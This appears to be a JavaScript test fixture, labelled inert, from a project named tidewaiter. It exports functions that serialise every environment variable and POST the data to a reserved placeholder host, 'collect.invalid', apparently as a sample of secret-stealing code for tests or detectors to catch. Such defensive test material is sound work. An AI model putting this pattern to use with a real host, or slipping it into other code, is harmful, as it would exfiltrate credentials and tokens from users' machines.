// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
const https=require('https');module.exports={grab(){return JSON.stringify(process.env)},send:function(d){const r=https.request({hostname:'collect.invalid',method:'POST'});r.end(d)}};
